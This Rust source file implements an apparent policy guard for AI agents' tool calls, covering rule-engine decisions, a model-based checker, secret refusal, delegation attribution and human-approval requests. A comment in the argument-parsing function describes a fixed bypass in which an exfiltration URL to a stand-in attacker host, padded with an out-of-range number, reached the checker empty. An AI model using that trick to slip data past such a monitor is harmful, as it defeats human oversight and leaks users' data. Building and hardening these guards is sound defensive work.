//! The policy behind both interception points: the Layer 1 rule engine and then the Layer 2
//! checker before a call; the `redact` list and then the checker on its result.

use std::collections::HashMap;
use std::sync::{Arc, Mutex};

use serde_json::Value;

pub use super::checks::{PostCheck, PreCheck};
use super::{CallOutcome, Denial, Outcome};
use crate::approval::{Ask, Source};
use crate::call::{Mode, ToolCall};
use crate::checker::openai::ClientError;
use crate::checker::Phase;
use crate::config::agents::DelegationSettings;
use crate::config::Policy;
use crate::guardrails::Guardrails;
use crate::identity::delegation::Delegations;
use crate::rules::kinds::canonical_json;
use crate::rules::kinds::ToolKinds;
use crate::rules::{Decision, Effect, Engine, Origin, Profile, Scope};
use crate::says::Said;
use crate::telemetry::Metrics;

/// What replaces a redacted string.
pub const REDACTED: &str = "[guardrail: redacted]";

/// Decides calls and rewrites results. Built once from config; cheap to share.
#[derive(Debug)]
pub struct Guard {
    engine: Arc<Engine>,
    /// Each configured agent's engine: the config's with the agent's layer on it.
    agents: Arc<HashMap<Arc<str>, Arc<Engine>>>,
    redact: Vec<String>,
    /// `secrets:` compiled (none configured: `None`, and nothing is searched).
    secrets: Option<Arc<crate::secrets::Held>>,
    metrics: Arc<Metrics>,
    guardrails: Option<Arc<Guardrails>>,
    audit: Arc<crate::audit::Audit>,
    delegation: DelegationSettings,
    /// Live delegated credentials (the process's, kept across reloads).
    delegations: Option<Arc<Delegations>>,
    /// Delegated agents' engines, by grant id, compiled for this guard's policy: a reload builds
    /// a new guard, so they are compiled again under the new root engines.
    delegated: Mutex<HashMap<Arc<str>, Arc<Engine>>>,
    /// The pinned tool definitions (`pins:`), if a lock file is configured.
    pins: Option<Arc<crate::config::pins::Pins>>,
    /// Listed tool definitions and their verdicts (the process's, kept across reloads).
    tool_defs: Arc<crate::tooldefs::ToolDefs>,
    /// Which tools each caller is shown (this policy's: a reload starts afresh).
    visible: crate::tooldefs::visible::Judged,
    /// The operator's descriptions of tools in lists (`tool_descriptions:`).
    descriptions: crate::config::descriptions::Descriptions,
    /// Which callers' lists may differ from the upstream's (worked out once per policy).
    listed: lists::Filtering,
    /// `limits.per_agent` (the process's, built at start and kept across reloads).
    limits: Arc<crate::limits::Limiter>,
    /// The flow index (`flows:`; its store is the process's, kept across reloads).
    flows: Option<Arc<crate::flows::Flows>>,
    /// What vets a call the rules allowed (`authority:`; this policy's).
    authority: Arc<crate::authority::Authority>,
    /// This policy's version, as audit lines name it ([`crate::audit::why::policy_version`]).
    version: Arc<str>,
}

impl Default for Guard {
    fn default() -> Self {
        Guard::new(&Policy::default(), Arc::new(Metrics::new())).expect("no guardrails, nothing to fail")
    }
}

/// Each configured agent's engine, compiled with the config.
fn agent_engines(policy: &Policy) -> HashMap<Arc<str>, Arc<Engine>> {
    policy.identity.agents.iter().map(|(name, spec)| (name.clone(), Arc::new(spec.engine.clone()))).collect()
}

impl Guard {
    /// Fails only when the checker cannot be built (its API key variable is unset, say).
    pub fn new(policy: &Policy, metrics: Arc<Metrics>) -> Result<Guard, ClientError> {
        let guardrails = match &policy.guardrails {
            Some(g) => Some(Arc::new(Guardrails::new(g, metrics.clone())?)),
            None => None,
        };
        let metrics_flows = metrics.flows.clone();
        let guard = Guard {
            engine: Arc::new(policy.engine.clone()),
            agents: Arc::new(agent_engines(policy)),
            redact: policy.redact.clone(),
            secrets: crate::secrets::Held::new(&policy.secrets).map(Arc::new),
            metrics,
            guardrails,
            audit: Arc::new(crate::audit::Audit::off()),
            delegation: policy.identity.delegation,
            delegations: None,
            delegated: Mutex::default(),
            pins: policy.pins.clone(),
            tool_defs: Arc::default(),
            visible: Default::default(),
            descriptions: policy.descriptions.clone(),
            listed: lists::Filtering::of(policy),
            limits: Arc::default(),
            flows: policy.flows.clone().map(|s| Arc::new(crate::flows::Flows::new(s, metrics_flows.clone()))),
            authority: Arc::new(crate::authority::Authority::new(&policy.authority)),
            version: crate::audit::why::policy_version(policy).into(),
        };
        guard.export_rules();
        Ok(guard)
    }

    /// The same guard, deciding delegated agents' calls with the grants in `delegations`.
    pub fn with_delegations(mut self, delegations: Arc<Delegations>) -> Guard {
        self.delegations = Some(delegations);
        self
    }

    /// The same guard, admitting forwarded calls under `limits` ([`crate::limits`]).
    pub fn with_limits(mut self, limits: Arc<crate::limits::Limiter>) -> Guard {
        self.limits = limits;
        self
    }

    /// The per-agent rate limits calls are admitted under.
    pub fn limits(&self) -> &crate::limits::Limiter {
        &self.limits
    }

    /// The `delegation:` limits of this policy.
    pub fn delegation(&self) -> DelegationSettings {
        self.delegation
    }

    /// A configured agent's current profile (standard when it sets none); `None` when `name` is
    /// not configured.
    pub fn agent_profile(&self, name: &str) -> Option<Profile> {
        self.agents.get(name).map(|e| e.agent_profile().unwrap_or_default())
    }

    /// What the configured tools are (for compiling a delegation's rules).
    pub fn kinds(&self) -> &ToolKinds {
        self.engine.kinds()
    }

    /// The same guard, recording its decisions in `audit`.
    pub fn with_audit(mut self, audit: Arc<crate::audit::Audit>) -> Guard {
        if let Some(g) = &self.guardrails {
            g.audit_to(audit.clone());
        }
        audit.mask_with(self.secrets.clone());
        self.audit = audit;
        self
    }

    /// Where decisions are recorded (kept across reloads).
    pub fn audit(&self) -> &crate::audit::Audit {
        &self.audit
    }

    /// The version of the policy this guard decides by.
    pub fn policy_version(&self) -> &Arc<str> {
        &self.version
    }

    /// A guard for a reloaded `policy`, keeping this one's checker client, cache and breaker
    /// when the checker's settings are unchanged.
    pub fn reload(&self, policy: &Policy) -> Result<Guard, ClientError> {
        let guardrails = match &policy.guardrails {
            Some(g) => {
                Some(Arc::new(Guardrails::reusing(g, self.metrics.clone(), self.guardrails.as_deref())?))
            }
            None => None,
        };
        if let Some(g) = &guardrails {
            g.audit_to(self.audit.clone());
        }
        let secrets = crate::secrets::Held::new(&policy.secrets).map(Arc::new);
        self.audit.mask_with(secrets.clone());
        Ok(Guard {
            engine: Arc::new(policy.engine.clone()),
            agents: Arc::new(agent_engines(policy)),
            redact: policy.redact.clone(),
            secrets,
            metrics: self.metrics.clone(),
            guardrails,
            audit: self.audit.clone(),
            delegation: policy.identity.delegation,
            delegations: self.delegations.clone(),
            delegated: Mutex::default(),
            pins: policy.pins.clone(),
            tool_defs: self.tool_defs.clone(),
            visible: Default::default(),
            descriptions: policy.descriptions.clone(),
            listed: lists::Filtering::of(policy),
            limits: self.limits.clone(),
            flows: policy.flows.clone().map(|s| {
                Arc::new(match &self.flows {
                    Some(kept) => kept.reloaded(s),
                    None => crate::flows::Flows::new(s, self.metrics.flows.clone()),
                })
            }),
            authority: Arc::new(crate::authority::Authority::new(&policy.authority)),
            version: crate::audit::why::policy_version(policy).into(),
        })
    }

    /// A delegated agent's refusal says so, and by whom: the chain is what an operator narrows.
    fn attributed(call: &ToolCall, d: Decision) -> Decision {
        Self::attributed_to(call.agent.as_deref(), d)
    }

    /// [`Self::attributed`], for `agent`.
    pub(crate) fn attributed_to(agent: Option<&crate::identity::Agent>, mut d: Decision) -> Decision {
        if let Some(a) = agent.filter(|a| !a.delegated_by.is_empty() && d.effect != Effect::Allow) {
            let by: Vec<&str> = a.delegated_by.iter().map(|b| &**b).collect();
            d.reason = format!("{}, as {}, delegated by {}", d.reason, a.id, by.join(" in turn by "));
        }
        d
    }

    /// The call's arguments as a value, when something reads them. Arguments that parse as JSON
    /// text but not as values (a number past f64's range like `1e999`, which JavaScript reads as
    /// `Infinity`; a lone surrogate escape) are never judged as something else (they were judged
    /// as `{}`, so `{"url": "https://attacker/?d=…", "pad": 1e999}` reached the checker empty —
    /// found by the `jsonrpc` fuzz target): such a call is denied.
    fn args(&self, call: &ToolCall, needed: bool) -> Result<Value, Decision> {
        match call.args.as_deref() {
            Some(a) if needed => serde_json::from_str(a.get()).map_err(|e| Decision {
                effect: Effect::Deny,
                rule: "unreadable arguments".into(),
                scope: Scope::Builtin,
                origin: Origin::Floor,
                reason: format!(
                    "its arguments are JSON the proxy cannot read as values ({e}), so what the tool \
                     would receive cannot be judged"
                ),
                prefilter: None,
            }),
            _ => Ok(Value::Object(Default::default())),
        }
    }

    /// Layer 1's decision for a call, as `portcullis check` reports it.
    pub fn decide(&self, call: &ToolCall) -> Decision {
        let engine = match self.engine_for(call) {
            Ok(e) => e,
            Err(refused) => return Self::attributed(call, refused),
        };
        let needs =
            engine.needs_args(&call.qualified) || call.mode == Mode::Plan || self.authority.reads_args();
        let d = match self.args(call, needs) {
            Ok(args) => self.layer1_decision(&engine, call, &args),
            Err(unreadable) => unreadable,
        };
        Self::attributed(call, d)
    }

    /// The engine's decision for `call` in the mode the agent says it is in, vetted by the
    /// authority evaluator ([`crate::authority`]), which can only turn it into a denial.
    fn layer1_decision(&self, engine: &crate::rules::Engine, call: &ToolCall, args: &Value) -> Decision {
        let d = match call.mode {
            Mode::Act => engine.decide(&call.upstream, &call.qualified, args),
            Mode::Plan => engine.decide_planning(&call.upstream, &call.qualified, args),
        };
        self.authority.vet(d, engine.kinds(), call, args)
    }

    /// Egress's refusal of the redirect a plain HTTP tool's answer points to (`Location`),
    /// decided with the call's engine (its agent's entries, its upstream's).
    pub fn redirect_refusal(&self, call: &ToolCall, location: &str) -> Option<Decision> {
        let engine = self.engine_for(call).ok()?;
        engine.egress_redirect(&call.upstream, location)
    }

    /// What a refusal says did not happen: a hook's call is run by the agent's own client.
    fn not(call: &ToolCall) -> crate::says::Not {
        match call.transport {
            crate::call::Transport::Hook => crate::says::Not::Run,
            _ => crate::says::Not::Sent,
        }
    }

    fn denied(call: &ToolCall, d: Decision) -> Outcome {
        Outcome::Refuse(Denial {
            reason: Said::Denied {
                tool: &call.qualified,
                reason: &d.reason,
                rule: &d.rule,
                scope: d.scope.as_str(),
                not: Self::not(call),
            }
            .to_string(),
            rule: d.rule,
            outcome: CallOutcome::Denied,
            ask: None,
        })
    }

    /// The pre-call outcome. With no approval channel yet, `ask` is refused ("headless"), with a
    /// reason that says a human could have allowed it. An allowed call a guardrail rule covers
    /// comes back as [`Outcome::Check`]: a Layer 1 deny never spends a checker call.
    pub fn pre(&self, call: &ToolCall) -> Outcome {
        self.layer1(call, false, None).0
    }

    /// [`Self::pre`] with the call's arguments already parsed (by [`Self::pull_flows`]), so
    /// they are not parsed twice.
    pub fn pre_parsed(&self, call: &ToolCall, parsed: Option<Value>) -> Outcome {
        self.layer1(call, false, parsed).0
    }

    /// The pre-call outcome and Layer 1's decision behind it (for `check`, `eval` and the hook,
    /// which report the rule that allowed a call): Layer 1 evaluated once.
    pub fn pre_explained(&self, call: &ToolCall) -> (Outcome, Decision) {
        self.pre_explained_parsed(call, None)
    }

    /// [`Self::pre_explained`] with the arguments already parsed.
    pub fn pre_explained_parsed(&self, call: &ToolCall, parsed: Option<Value>) -> (Outcome, Decision) {
        let (outcome, d) = self.layer1(call, true, parsed);
        (outcome, d.expect("kept when asked"))
    }

    /// [`Self::pre`], keeping Layer 1's decision when `keep` (a clone: never on the proxy's
    /// path); `pre_parsed`: the arguments, when already parsed.
    fn layer1(&self, call: &ToolCall, keep: bool, pre_parsed: Option<Value>) -> (Outcome, Option<Decision>) {
        // A tool whose definition was withheld from the agent is not called either.
        if let Some(w) = self.tool_defs.refusal(self.screening(), call) {
            let withheld = Denial { reason: w.reason, rule: w.rule.into(), outcome: w.outcome, ask: None };
            self.metrics.rule_decision(Effect::Deny, Scope::Builtin, &withheld.rule);
            let d = keep.then(|| Decision {
                effect: Effect::Deny,
                rule: withheld.rule.clone(),
                scope: Scope::Builtin,
                origin: Origin::Floor,
                reason: withheld.reason.clone(),
                prefilter: None,
            });
            return (Outcome::Refuse(withheld), d);
        }
        // A held secret bound where it may not go (or its value itself): refused before any rule
        // or model reads the arguments.
        if let Some(r) = self.secrets.as_ref().and_then(|s| s.refusal(call, self.engine.kinds())) {
            self.metrics.rule_decision(Effect::Deny, Scope::Builtin, &r.rule);
            let d = Decision {
                effect: Effect::Deny,
                rule: r.rule,
                scope: Scope::Builtin,
                origin: Origin::Floor,
                reason: r.reason,
                prefilter: None,
            };
            return (Self::denied(call, d.clone()), keep.then_some(d));
        }
        let kind = self.engine.kinds().kind_of(&call.qualified);
        let checker = self.guardrails.as_ref().filter(|g| g.covers(&call.qualified, kind, Phase::Pre));
        // Parsed once, and only when Layer 1 or a guardrail rule reads them.
        let engine = self.engine_for(call);
        let flows = match (&self.flows, &engine) {
            (Some(f), Ok(e)) => f.watch(call, e).map(|w| (f, w)),
            _ => None,
        };
        let parsed = pre_parsed.is_some()
            || checker.is_some()
            || call.mode == Mode::Plan
            || flows.is_some()
            || self.authority.reads_args()
            || engine.as_ref().is_ok_and(|e| e.needs_args(&call.qualified));
        let args = match pre_parsed {
            Some(args) => Ok(args),
            None => self.args(call, parsed),
        };
        let (args, d) = match (&engine, args) {
            (Err(refused), _) => (Value::Null, refused.clone()),
            (Ok(engine), Ok(args)) => {
                let d = self.layer1_decision(engine, call, &args);
                (args, d)
            }
            (Ok(_), Err(unreadable)) => (Value::Null, unreadable),
        };
        // Beside egress, before any model: private text bound for an unallowed destination.
        let (d, prefilter) = match (flows, &engine) {
            (Some((f, watched)), Ok(engine)) if d.effect != Effect::Deny && !args.is_null() => {
                f.judge(watched, call, &args, engine, d, checker.is_some())
            }
            _ => {
                let p = d.prefilter;
                (d, p)
            }
        };
        let d = Self::attributed(call, d);
        self.metrics.rule_decision(d.effect, d.scope, &d.rule);
        let kept = keep.then(|| d.clone());
        if d.effect != Effect::Allow {
            self.audit.note(call.decision, crate::audit::why::Note::Layer1(super::pre::why::layer1(&d)));
        }
        let scope = d.scope.as_str();
        let outcome = match d.effect {
            Effect::Allow => match checker {
                None => Outcome::Forward,
                Some(g) => Self::checked(g, call, kind, args, prefilter),
            },
            Effect::Deny => Self::denied(call, d),
            Effect::Ask => Outcome::Refuse(Denial {
                ask: Some(Box::new(Ask {
                    tool: call.qualified.clone(),
                    // A waiver is keyed by these: unreadable arguments are never keyed as `{}`.
                    // Exact: an integer past 64 bits keeps its digits (red team R10-6).
                    args: match call.exact_args() {
                        Some(exact) => exact,
                        None => canonical_json(&match parsed {
                            true => args,
                            false => match self.args(call, true) {
                                Ok(args) => args,
                                Err(unreadable) => {
                                    return (
                                        Self::denied(call, unreadable.clone()),
                                        keep.then_some(unreadable),
                                    )
                                }
                            },
                        }),
                    },
                    reason: d.reason.clone(),
                    // Who asked, not which rule was named: an operator's ask tied with a floor
                    // or escape ask is still the operator's ([`crate::rules::Origin`]).
                    source: match d.origin {
                        Origin::Floor => Source::Floor,
                        Origin::Escape => Source::Escape,
                        Origin::Unread => Source::Unread,
                        Origin::Configured => Source::Configured,
                    },
                    session: call.session.clone(),
                    definition: 0,
                    agent: call.agent.clone(),
                })),
                reason: Said::Headless {
                    tool: &call.qualified,
                    reason: &d.reason,
                    rule: &d.rule,
                    scope,
                    not: Self::not(call),
                }
                .to_string(),
                rule: d.rule,
                outcome: CallOutcome::AskRefused,
            }),
        };
        (outcome, kept)
    }
}

mod engines;
mod flows_shared;
mod lists;
mod parts;
mod post_phase;
mod results;
mod reviewed;
mod workspace;

#[cfg(test)]
pub(crate) mod tests;
